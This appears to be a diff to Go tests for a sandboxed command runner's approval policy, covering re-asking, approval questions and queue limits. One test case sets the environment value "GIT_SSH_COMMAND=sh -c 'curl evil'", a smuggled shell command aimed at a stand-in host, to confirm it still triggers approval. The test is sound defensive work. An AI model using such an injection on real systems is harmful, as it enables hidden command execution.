@@ -10,6 +10,8 @@ import (
 	"time"
 
 	"belljar/sandbox"
+
+	"github.com/google/go-cmp/cmp"
 )
 
 // asking is a policy that asks about every command of a script, which are its
@@ -63,9 +65,17 @@ func (a *approver) Approve(ctx context.Context, q sandbox.Question) (sandbox.App
 }
 
 // notes is an auditor in memory.
-type notes struct{ list []sandbox.AuditRecord }
+type notes struct {
+	mu   sync.Mutex
+	list []sandbox.AuditRecord
+}
 
-func (n *notes) Record(r sandbox.AuditRecord) error { n.list = append(n.list, r); return nil }
+func (n *notes) Record(r sandbox.AuditRecord) error {
+	n.mu.Lock()
+	defer n.mu.Unlock()
+	n.list = append(n.list, r)
+	return nil
+}
 
 // asks has the runner's policy ask, and a answer.
 func asks(l *sandbox.Local, a sandbox.Approver) *notes {
@@ -185,6 +195,9 @@ func TestAlways(t *testing.T) {
 		"with another policy": {next: in("git"), with: func(_ *testing.T, _ *stage, l *sandbox.Local) {
 			changeProfile(l, func(p *sandbox.Profile) { p.Policy = asking{hash: "two"} })
 		}, asked: true},
+		"with a variable":                    {next: sandbox.Command{Script: "git", Session: "dev", Env: []string{"GIT_SSH_COMMAND=sh -c 'curl evil'"}}, asked: true},
+		"with stdin":                         {next: sandbox.Command{Script: "git", Session: "dev", Stdin: strings.NewReader("")}, asked: true},
+		"in another directory":               {next: sandbox.Command{Script: "git", Session: "dev", Dir: "/tmp"}, asked: true},
 		"with another profile":               {next: sandbox.Command{Script: "git", Session: "dev", Profile: "p"}, with: func(_ *testing.T, _ *stage, l *sandbox.Local) { l.Profiles["p"] = l.Profiles["default"] }, asked: true},
 		"after the container went":           {next: in("git"), with: func(t *testing.T, s *stage, _ *sandbox.Local) { s.Left()[0].Remove(t.Context()) }, asked: true},
 		"after the session was removed":      {next: in("git"), with: func(t *testing.T, _ *stage, l *sandbox.Local) { l.RemoveSession(t.Context(), "dev") }, asked: true},
@@ -239,6 +252,9 @@ func TestAlwaysIsOffered(t *testing.T) {
 		"git":                               true,
 		"ls git":                            true,
 		"ls":                                false, // the default asked, about no program
+		"./build.sh":                        false, // another one, in another directory
+		"sub/build.sh":                      false,
+		"/usr/bin/git":                      true,
 		"git $X":                            false,
 		"git redirected":                    false,
 		"a b c d e f g h i j k l m n o p":   true,
@@ -322,6 +338,69 @@ func TestAlwaysIsNotForTheNextContainer(t *testing.T) {
 			t.Errorf("asked %d times, error %v", len(always.question), err)
 		}
 	})
+}
+
+// What counts beside the script is told as the policy leaves it.
+func TestQuestion(t *testing.T) {
+	dir := t.TempDir()
+	bubble(t, nil, func(t *testing.T, s *stage) {
+		l, deny := s.runner(), &approver{}
+		changeProfile(l, func(p *sandbox.Profile) {
+			p.Policy = generous{verdict{Decision: sandbox.Ask, Grant: sandbox.Grant{Network: "none", Mounts: sandbox.ReadOnlyMounts, Secrets: []string{"API_KEY"}}}}
+			p.Secrets = []sandbox.Secret{{Name: "API_KEY", From: sandbox.SecretEnv}}
+		})
+		l.Approver = deny
+		l.Prepare(t.Context(), sandbox.Command{
+			Script: "x", Stdin: strings.NewReader(""), Image: "other", User: sandbox.User{UID: 1, GID: 2}, Network: "bridge",
+			Env: []string{"B=by value", "C", "NOT_THERE", "A=old", "A=new"}, Inherit: []string{"A=i", "C=i", "D=i", "API_KEY=i"},
+			Mounts: []sandbox.Mount{{Source: dir, Target: "/x", Writable: true}},
+		})
+		q := deny.question[0]
+		q.ID, q.Deadline, q.Verdict = "", time.Time{}, sandbox.Verdict{}
+		want := sandbox.Question{
+			Script: "x", Dir: "/work", Env: []string{"A=new", "B=by value", "C", "D"}, Stdin: true, Image: "other", User: sandbox.User{UID: 1, GID: 2},
+			Network: "none", Mounts: []sandbox.Mount{{Source: dir, Target: "/x"}}, Profile: "default",
+		}
+		if diff := cmp.Diff(want, q); diff != "" {
+			t.Error(diff)
+		}
+	})
+}
+
+// Questions that wait took the places of commands that would run.
+func TestQuestionsTakeNoPlace(t *testing.T) {
+	const most = 64
+	bubble(t, nil, func(t *testing.T, s *stage) {
+		l := s.runner()
+		l.Admission = sandbox.Admission{MaxRunning: 1, MaxQueued: 1}
+		asks(l, patient{})
+		l.Profiles["free"] = profile()
+		var all sync.WaitGroup
+		for range most {
+			all.Go(func() {
+				if _, err := l.Prepare(t.Context(), sandbox.Command{Script: "git"}); sandbox.CauseOf(err) != sandbox.CauseDenied {
+					t.Errorf("asked: %v", err)
+				}
+			})
+		}
+		synctest.Wait()
+		succeeds(t, l, sandbox.Command{Script: "ls", Profile: "free"})
+		_, err := l.Prepare(t.Context(), sandbox.Command{Script: "git"})
+		if e, ok := errors.AsType[*sandbox.Error](err); !ok || e.Cause != sandbox.CauseBusy || e.RetryAfter != time.Minute || e.Message != "busy: 64 commands wait for an approval already" {
+			t.Errorf("one more: %v", err)
+		}
+		all.Wait()
+		l.Approver = &approver{answer: sandbox.AnswerOnce}
+		succeeds(t, l, sandbox.Command{Script: "git"})
+	})
+}
+
+// patient never answers.
+type patient struct{}
+
+func (patient) Approve(ctx context.Context, _ sandbox.Question) (sandbox.Approval, error) {
+	<-ctx.Done()
+	return sandbox.Approval{}, ctx.Err()
 }
 
 func TestDescription(t *testing.T) {
